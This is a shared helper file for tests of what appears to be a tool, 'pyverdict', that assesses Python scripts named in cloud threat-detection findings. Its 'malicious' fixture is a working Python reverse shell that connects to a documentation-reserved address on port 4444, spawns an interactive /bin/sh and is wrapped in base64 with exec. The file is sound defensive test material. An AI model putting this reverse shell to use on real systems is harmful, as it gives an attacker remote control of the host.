// What the tests of this folder share: samples (harmless, with addresses that are reserved for documentation) and the
// command line.
import { spawn } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

export const root = fileURLToPath(new URL('../..', import.meta.url));
export const cli = join(root, 'dist/npm/cli.js');

const inner = [
  'import socket, subprocess, os',
  's = socket.socket(socket.AF_INET, socket.SOCK_STREAM)',
  's.connect(("192.0.2.7", 4444))',
  'os.dup2(s.fileno(), 0)',
  'os.dup2(s.fileno(), 1)',
  'os.dup2(s.fileno(), 2)',
  'subprocess.call(["/bin/sh", "-i"])',
  '',
].join('\n');

export const malicious = `import base64\nexec(base64.b64decode("${Buffer.from(inner).toString('base64')}"))\n`;
export const benign = 'def add(a, b):\n    """The sum."""\n    return a + b\n\n\nprint(add(1, 2))\n';

/** A finding as the API gives it. @param {string} contents @param {string} [eventTime] */
export function finding(contents, eventTime = '2025-06-01T10:00:00Z') {
  return {
    name: 'organizations/1/sources/2/findings/abc',
    parentDisplayName: 'Cloud Run Threat Detection',
    category: 'Execution: Malicious Python executed',
    state: 'ACTIVE',
    severity: 'HIGH',
    findingClass: 'THREAT',
    eventTime,
    resourceName: '//run.googleapis.com/projects/example/locations/europe-west1/services/shop',
    processes: [
      {
        name: 'python3',
        binary: { path: '/usr/bin/python3' },
        script: { path: '/tmp/job.py', size: String(Buffer.byteLength(contents)), contents },
        args: ['python3', '/tmp/job.py'],
      },
    ],
  };
}

/**
 * A folder with these files, removed when the test is over.
 *
 * @param {import('node:test').TestContext} context
 * @param {Record<string, string | Uint8Array>} files
 */
export function folderOf(context, files) {
  const folder = mkdtempSync(join(tmpdir(), 'pyverdict-test-'));
  context.after(() => rmSync(folder, { recursive: true, force: true }));
  for (const [name, contents] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, name)), { recursive: true });
    writeFileSync(join(folder, name), contents);
  }
  return folder;
}

/**
 * @param {string} command
 * @param {string[]} args
 * @param {{ input?: string | Uint8Array, cwd?: string, env?: Record<string, string> }} [options]
 * @returns {Promise<{ status: number | null, stdout: string, stderr: string }>}
 */
export function run(command, args, { input, cwd, env = {} } = {}) {
  return new Promise((resolve, reject) => {
    const child = spawn(command, args, {
      cwd,
      env: { ...process.env, ...env },
      stdio: [input === undefined ? 'ignore' : 'pipe', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout?.setEncoding('utf8').on('data', (text) => (stdout += text));
    child.stderr?.setEncoding('utf8').on('data', (text) => (stderr += text));
    child.on('error', reject);
    child.on('close', (status) => resolve({ status, stdout, stderr }));
    child.stdin?.on('error', () => {}).end(input);
  });
}

/** @param {string[]} args @param {Parameters<typeof run>[2]} [options] */
export const pyverdict = (args, options) => run(process.execPath, [cli, ...args], options);
